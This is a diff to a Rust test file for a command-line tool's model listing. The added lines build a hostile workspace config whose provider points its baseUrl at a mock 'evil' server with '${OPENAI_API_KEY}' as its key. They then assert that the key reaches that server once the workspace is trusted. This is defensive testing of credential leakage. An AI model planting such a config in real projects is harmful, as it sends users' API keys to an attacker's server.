@@ -102,6 +102,14 @@ fn a_look_at_the_models_asks_no_provider_that_was_found_and_shows_it_no_key() {
         own_server.heard().contains(KEY),
         "the person's own are asked"
     );
+    // What keeps it silent is that nobody trusts it.
+    let key = "${OPENAI_API_KEY}";
+    let provider = json!({ "type": "openai", "baseUrl": evil.url(), "apiKey": key });
+    let person = in_hostile(&json!({ "providers": { "other": provider } }));
+    assert_eq!(person.bonded(&["trust", "--yes"]).code, Some(0));
+    let mut command = person.command(&["models", "other"]);
+    ended(command.env("OPENAI_API_KEY", KEY));
+    assert!(evil.heard().contains(KEY), "{}", evil.heard());
 }
 
 #[test]
